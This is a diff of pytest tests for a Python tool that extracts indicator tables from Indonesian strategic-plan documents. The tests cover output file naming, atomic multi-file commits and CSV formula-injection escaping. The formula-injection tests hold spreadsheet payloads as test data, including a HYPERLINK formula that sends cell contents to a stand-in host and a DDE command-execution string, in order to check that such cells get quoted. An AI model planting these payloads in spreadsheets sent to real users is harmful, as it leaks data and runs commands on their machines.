@@ -1,6 +1,8 @@
 from __future__ import annotations
 
 import csv
+import errno
+import io
 import itertools
 import json
 import os
@@ -16,6 +18,7 @@ from renstra.extract.writers.atomic import (
     AtomicFile,
     atomic_write_bytes,
     commit,
+    commit_together,
     discard,
     open_atomic,
 )
@@ -250,6 +253,50 @@ def test_output_names_are_distinct_for_same_named_files_from_two_arguments() -> 
     assert len(set(names.values())) == 2
 
 
+@pytest.mark.parametrize(
+    "inputs",
+    [
+        # two files that every namer names alike: a/x.txt and ../a/x.txt from another folder
+        [InputFile("a/x.txt", "x.txt"), InputFile("../a/x.txt", "x.txt")],
+        # names that differ only in case collide on a case-insensitive file system
+        [InputFile("in/A.txt", "A.txt"), InputFile("in/a.txt", "a.txt")],
+        [InputFile("in/A.txt", "A.txt"), InputFile("in/a.txt", "a.txt"), InputFile("a", "a")],
+        # what the numbering gives may be another input's own name
+        [
+            InputFile("a/x.txt", "x.txt"),
+            InputFile("../a/x.txt", "x.txt"),
+            InputFile("a/x.txt~2.txt", "x.txt~2.txt"),
+        ],
+    ],
+)
+def test_output_names_never_collide(inputs: list[InputFile]) -> None:
+    names = output_names(inputs)
+    assert len({name.casefold() for name in names.values()}) == len(inputs)
+
+
+def test_output_names_number_what_still_collides() -> None:
+    inputs = [InputFile("a/x.txt", "x.txt"), InputFile("../a/x.txt", "x.txt")]
+    assert output_names(inputs) == {"a/x.txt": "a/x.txt.json", "../a/x.txt": "a/x.txt~2.json"}
+
+
+@pytest.mark.parametrize(
+    "relative",
+    [
+        ".renstra-run.txt",
+        "summary.txt",
+        "SUMMARY.md",
+        "indicators.csv/x.txt",
+        "summary.json/x.txt",
+        ".renstra-run.json/x.txt",
+    ],
+)
+def test_output_names_keep_out_of_the_batch_files_and_the_run_state(relative: str) -> None:
+    reserved = {"summary.json", ".renstra-run.json", "indicators.csv", "findings.csv",
+                "documents.jsonl", "findings.jsonl"}  # fmt: skip
+    name = output_names([InputFile(f"in/{relative}", relative)])[f"in/{relative}"]
+    assert name.split("/")[0].casefold() not in reserved
+
+
 # --- CSV -------------------------------------------------------------------------------
 
 
@@ -351,3 +398,137 @@ def test_an_empty_batch_still_writes_the_header(tmp_path: Path) -> None:
     frame = pd.read_csv(path)
     assert list(frame.columns) == INDICATOR_COLUMNS
     assert len(frame) == 0
+
+
+# --- committing several files together --------------------------------------------------
+
+
+def sealed(folder: Path, contents: dict[str, bytes]) -> list[AtomicFile]:
+    files = []
+    for name, data in contents.items():
+        files.append(AtomicFile(folder / name))
+        files[-1].write(data)
+        files[-1].seal()
+    return files
+
+
+def test_files_committed_together_all_land_and_leave_nothing_else(tmp_path: Path) -> None:
+    (tmp_path / "a.csv").write_bytes(b"old a")
+    commit_together(sealed(tmp_path, {"a.csv": b"new a", "b.csv": b"new b"}))
+    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == {
+        "a.csv": b"new a",
+        "b.csv": b"new b",
+    }
+
+
+@pytest.mark.parametrize("hard_links", [True, False])
+def test_a_failed_rename_puts_back_every_file_renamed_before_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hard_links: bool
+) -> None:
+    """With hard links the old files stay in place meanwhile; without (some network and
+    FAT file systems) they are moved aside and moved back."""
+    (tmp_path / "a.csv").write_bytes(b"old a")
+    (tmp_path / "c.json").write_bytes(b"old c")
+    files = sealed(tmp_path, {"a.csv": b"new a", "b.csv": b"new b", "c.json": b"new c"})
+    real = os.replace
+    if not hard_links:
+
+        def no_link(*args: object, **kwargs: object) -> None:
+            raise OSError(errno.EPERM, "Operation not permitted")
+
+        monkeypatch.setattr(os, "link", no_link)
+
+    def replace(source: str, target: str | Path) -> None:
+        if source.endswith(".tmp") and os.fspath(target).endswith("c.json"):
+            raise OSError(errno.ENOSPC, "No space left on device")
+        real(source, target)
+
+    monkeypatch.setattr(os, "replace", replace)
+    with pytest.raises(OSError, match="No space left"):
+        commit_together(files)
+    for file in files:
+        file.abort()
+    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == {
+        "a.csv": b"old a",
+        "c.json": b"old c",
+    }
+
+
+def test_a_target_that_is_a_folder_is_refused_before_anything_is_renamed(tmp_path: Path) -> None:
+    (tmp_path / "a.csv").write_bytes(b"old a")
+    (tmp_path / "summary.json").mkdir()
+    files = sealed(tmp_path, {"a.csv": b"new a", "summary.json": b"{}"})
+    with pytest.raises(IsADirectoryError):
+        commit_together(files)
+    for file in files:
+        file.abort()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "summary.json"]
+    assert (tmp_path / "a.csv").read_bytes() == b"old a"
+
+
+# --- formula injection -------------------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1,"klik")'
+HOSTILE_RENSTRA = (
+    "RENCANA STRATEGIS DINAS PENDIDIKAN KABUPATEN CONTOH TAHUN 2021-2025\n\n"
+    "NO.\tINDIKATOR\tSATUAN\t2021\t2022\t2023\t2024\t2025\n"
+    f"1\t{FORMULA_NAME}\t%\t-5\t+2%\t@SUM(1)\t-1,5\t=1+1\n"
+    "2\tPersentase sekolah terakreditasi\t%\t-\t10\t20\t30\t40\n"
+)
+"""A table whose cells a spreadsheet would run (a name and two targets), beside negative
+targets, a change (``+2%``) and a ``-`` placeholder, which are no formula."""
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (FORMULA_NAME, "'" + FORMULA_NAME),
+        ("=1+1", "'=1+1"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+E1", "'+E1"),  # a reference
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # DDE
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("- 5", "'- 5"),
+        # plain numbers, signed: no letter, reference or operator but the sign
+        ("-5", "-5"),
+        ("+2%", "+2%"),
+        ("-1,5", "-1,5"),
+        ("-1.234,56", "-1.234,56"),
+        ("-1e-05", "-1e-05"),  # the target_value column writes small numbers so
+        ("-", "-"),  # the placeholder many tables write
+        ("Persentase (%)", "Persentase (%)"),
+        (5, 5),
+    ],
+)
+def test_a_csv_cell_that_would_run_as_a_formula_gets_a_quote(cell: object, written: str) -> None:
+    data = csv_bytes([[cell]]).decode("utf-8")
+    assert next(csv.reader(io.StringIO(data))) == [str(written)]
+
+
+def test_extract_neutralises_formulas_in_the_csvs_and_keeps_the_json_exact(
+    tmp_path: Path,
+) -> None:
+    from renstra.extract.cli import app
+    from typer.testing import CliRunner
+
+    source = tmp_path / "renstra.txt"
+    source.write_text(HOSTILE_RENSTRA, encoding="utf-8")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(app, ["extract", str(source), "-o", str(out), "-q"])
+    assert result.exit_code == 0, result.output
+    document = json.loads((out / "renstra.json").read_bytes())
+    first = document["indicators"][0]
+    assert first["name"] == FORMULA_NAME
+    assert [t["text"] for t in first["targets"]] == ["-5", "+2%", "@SUM(1)", "-1,5", "=1+1"]
+    with open(out / "indicators.csv", encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {row["name"] for row in rows[:5]} == {"'" + FORMULA_NAME}
+    assert [row["target_text"] for row in rows] == [
+        "-5", "+2%", "'@SUM(1)", "-1,5", "'=1+1", "-", "10", "20", "30", "40",
+    ]  # fmt: skip
+    assert [row["target_value"] for row in rows[:5]] == ["-5", "2", "", "-1.5", ""]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)
+    frame = pd.read_csv(out / "indicators.csv")
+    assert frame["target_value"].dtype.kind == "f"  # the negative targets stay numbers
